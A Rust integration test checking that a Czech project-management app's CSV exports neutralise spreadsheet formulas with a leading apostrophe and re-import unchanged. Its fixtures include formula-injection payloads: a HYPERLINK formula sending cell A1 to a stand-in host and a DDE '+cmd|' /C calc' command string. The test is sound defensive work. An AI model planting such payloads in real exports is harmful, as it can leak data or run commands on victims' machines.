//! CSV exports never hand Czech Excel a formula: a text cell that starts with `=`, `+`, `-`, `@`, a tab
//! or a carriage return is written with a leading `'`, and the project list still imports back
//! unchanged (the importer takes the `'` off again). Over HTTP against the real server.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common::csv_records as records;
use crate::http::{sign_in, spawn_app};
use app::dto::{BudgetLineInput, EditOutcome, ProjectInput, SaveOutcome};
use app::services::{budget, demo, import, projects};
use std::sync::Arc;

const NOE: &str = "CZ.03.01.01/00/22_015/0002653";
const HYPERLINK: &str = r#"=HYPERLINK("http://x/?"&A1;"Detail")"#;

#[tokio::test]
async fn csv_exports_guard_formulas_and_the_project_list_imports_back_unchanged() {
    let (app, _dir) = spawn_app().await;
    let noe = demo::project_id_by_registration(&app.db, NOE)
        .await
        .unwrap()
        .unwrap();
    let (input, version) = projects::input_of(&app.db, noe).await.unwrap();
    let changed = ProjectInput {
        name: HYPERLINK.into(),
        description: "+cmd|' /C calc'!A0".into(),
        ..input
    };
    assert_eq!(
        projects::update(&app.db, noe, version, &changed)
            .await
            .unwrap(),
        SaveOutcome::Saved { id: noe }
    );
    let line = BudgetLineInput {
        code: "9.9".into(),
        name: "@SUM(A1:A9)".into(),
        // NOE accounts with the 40 % model: only personnel lines.
        chapter: "personnel".into(),
        year: "2026".into(),
        amount: "1 000,00".into(),
        ..Default::default()
    };
    assert_eq!(
        budget::save_line(&app.db, noe, None, &line).await.unwrap(),
        EditOutcome::Saved
    );
    let admin = sign_in(&app, "admin@demo.cz").await;

    let resp = admin
        .get(format!("{}/export/projekty.csv", app.url()))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let list = resp.text().await.unwrap();
    let rows = records(&list);
    let noe_row = rows.iter().find(|r| r[0] == NOE).unwrap();
    assert_eq!(noe_row[1], format!("'{HYPERLINK}"));
    assert_eq!(noe_row[11], "'+cmd|' /C calc'!A0");
    assert!(
        list.contains(&format!("\"'{}\"", HYPERLINK.replace('"', "\"\""))),
        "{list}"
    );

    let resp = admin
        .get(format!("{}/export/projekty/{noe}/rozpocet.csv", app.url()))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let budget_csv = resp.text().await.unwrap();
    let line_row = records(&budget_csv)
        .into_iter()
        .find(|r| r.first().map(String::as_str) == Some("9.9"))
        .unwrap_or_else(|| panic!("{budget_csv}"));
    assert_eq!(line_row[1], "'@SUM(A1:A9)");
    assert!(
        !budget_csv.contains(";@") && !budget_csv.contains(";=") && !budget_csv.contains(";+"),
        "{budget_csv}"
    );

    // Opened in Excel and saved as a workbook (every cell as the text it shows), then imported: nothing
    // changes, the name keeps its `=`.
    let sheet: Vec<Vec<String>> = rows;
    let bytes = crate::common::xlsx(&[("Projekty", sheet)]);
    let report = import::run(
        &app.db,
        Arc::new(bytes),
        "projekty.xlsx",
        import::ImportLimits::default(),
        &import::ImportOptions {
            commit: true,
            all_or_nothing: false,
            imported_by: "test".into(),
            viewer: None,
        },
        Arc::new(import::Progress::default()),
    )
    .await
    .unwrap();
    let s = &report.sheets[0];
    assert_eq!(s.kind.as_deref(), Some("projects"), "{report:?}");
    assert_eq!(
        (s.new_rows, s.changed_rows, s.invalid_rows),
        (0, 0, 0),
        "{report:?}"
    );
    assert!(s.unchanged_rows >= 2, "{report:?}");
    let stored = projects::detail(&app.db, noe).await.unwrap();
    assert_eq!(stored.name, HYPERLINK);
    assert_eq!(stored.description, "+cmd|' /C calc'!A0");
}
